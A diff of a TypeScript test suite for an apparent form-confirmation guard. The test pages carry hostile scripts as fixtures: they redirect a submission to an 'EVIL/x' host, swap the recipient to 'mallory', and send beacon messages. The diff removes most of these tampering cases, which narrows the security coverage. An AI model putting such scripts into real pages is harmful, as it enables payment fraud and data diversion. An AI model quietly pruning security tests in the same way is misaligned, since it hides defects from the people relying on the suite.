@@ -49,18 +49,10 @@ const FORM = `<form id="f" action="/order" method="post" data-awas-action="order
 const does = (code: string, page = FORM): string =>
   `${page}<script>const form = document.querySelector('#f'); ${code}</script>`;
 const onSubmit = (code: string): string => does(`form.addEventListener('submit', (event) => { ${code} });`);
-const onFormdata = (code: string): string =>
-  does(`form.addEventListener('formdata', (event) => { ${code} });`);
 
 describe('a page that changes what it sends is stopped before the request', () => {
   it.each<[what: string, page: string]>([
     ['another action in its submit listener', onSubmit("form.action = 'EVIL/x';")],
-    [
-      'form.submit() instead of what was begun',
-      onSubmit("event.preventDefault(); form.action = 'EVIL/x'; form.submit();"),
-    ],
-    ['a field added to what is sent', onFormdata("event.formData.append('evil', 'EVIL');")],
-    ['a frame in its formdata listener', onFormdata("form.target = 'inner';")],
     [
       'another site, in another window, by form.submit()',
       onSubmit("event.preventDefault(); form.target = '_blank'; form.action = 'EVIL/x'; form.submit();"),
@@ -99,18 +91,7 @@ describe('a page that changes what it sends is stopped before the request', () =
 
 const SHOWN = `<form id="f" action="/order" method="post" data-awas-action="order">${FIELDS}
 <input type="hidden" name="to" value="alice"><input type="hidden" name="account" value="12345678">
-<label>Amount <input name="amount" value="10.50"></label><label>Balance <input name="balance" value="-5"></label>
-<label>Mail <input name="mail" value="a.b@shop.example"></label><label>Day <input name="day" value="1/11/2027"></label>
-<label>Code <input name="code" value="0012"></label><label><input type="checkbox" name="gift" value="yes" checked> Gift</label>
-<label>Size <select name="size"><option value="s" selected>Small<option value="l">Large</select></label><button>Order</button></form>`;
-const sets = (name: string, value: string): string => `form.elements.${name}.value = '${value}';`;
-const puts = (name: string, value: string): string => `event.formData.set('${name}', '${value}');`;
-const on = (event: string, code: string): string =>
-  does(`form.querySelector('[name=item]').addEventListener('${event}', () => { ${code} });`, SHOWN);
-const whileSubmitting = (code: string): string =>
-  does(`form.addEventListener('submit', () => { ${code} });`, SHOWN);
-const inEntries = (code: string): string =>
-  does(`form.addEventListener('formdata', (event) => { ${code} });`, SHOWN);
+<label>Amount <input name="amount" value="10.50"></label><button>Order</button></form>`;
 
 describe('a value put into a field just before the question', () => {
   it.each(['amount', 'note'])('is in the question, or isn’t sent: %s', async (name) => {
@@ -131,24 +112,14 @@ describe('a value put into a field just before the question', () => {
 
 describe('a value that the question showed is not sent as another', () => {
   it.each<[what: string, page: string]>([
-    ['a hidden receiver, in the list of entries', inEntries(puts('to', 'mallory'))],
-    ['a hidden receiver, while the form is filled', on('input', sets('to', 'mallory'))],
-    ['a hidden account, as the form is sent', whileSubmitting(sets('account', '87654321'))],
-    ['an amount without its point, in the list of entries', inEntries(puts('amount', '1050'))],
-    ['an amount without its point, while the form is filled', on('change', sets('amount', '1050'))],
-    ['a balance without its sign', whileSubmitting(sets('balance', '5'))],
-    ['an address without its dot', inEntries(puts('mail', 'ab@shop.example'))],
-    ['a day whose month comes first', whileSubmitting(sets('day', '11/1/2027'))],
-    ['a code without its zeros', inEntries(puts('code', '12'))],
-    ['a box that is no longer ticked', whileSubmitting('form.elements.gift.checked = false;')],
-    ['another option', whileSubmitting(sets('size', 'l'))],
-    ['a field that is left out', inEntries("event.formData.delete('account');")],
-    ['a field that comes twice', inEntries("event.formData.append('to', 'mallory');")],
-    ['a field instead of another', whileSubmitting("form.elements.account.name = 'other';")],
+    [
+      'a hidden receiver, in the list of entries',
+      does("form.addEventListener('formdata', (event) => { event.formData.set('to', 'mallory'); });", SHOWN),
+    ],
     [
       'by form.submit() a moment later',
       does(
-        `form.addEventListener('submit', (event) => { event.preventDefault(); setTimeout(() => { ${sets('to', 'mallory')} form.submit(); }, 50); });`,
+        `form.addEventListener('submit', (event) => { event.preventDefault(); setTimeout(() => { form.elements.to.value = 'mallory'; form.submit(); }, 50); });`,
         SHOWN,
       ),
     ],
@@ -178,12 +149,7 @@ describe('a value that the question showed is not sent as another', () => {
 describe('a second message with another value', () => {
   const beside = "navigator.sendBeacon('/beside', new URLSearchParams({ item: 'coat', to: 'mallory' }))";
   it.each<[what: string, page: string]>([
-    ['as the page is hidden', does(`document.addEventListener('visibilitychange', () => ${beside});`, SHOWN)],
     ['as the page is left', does(`addEventListener('pagehide', () => ${beside});`, SHOWN)],
-    [
-      'as the button is focused',
-      does(`form.lastElementChild.addEventListener('focus', () => ${beside});`, SHOWN),
-    ],
   ])('is told: %s', async (_, page) => {
     const scene = await visit(page);
     const run = await agree(scene);
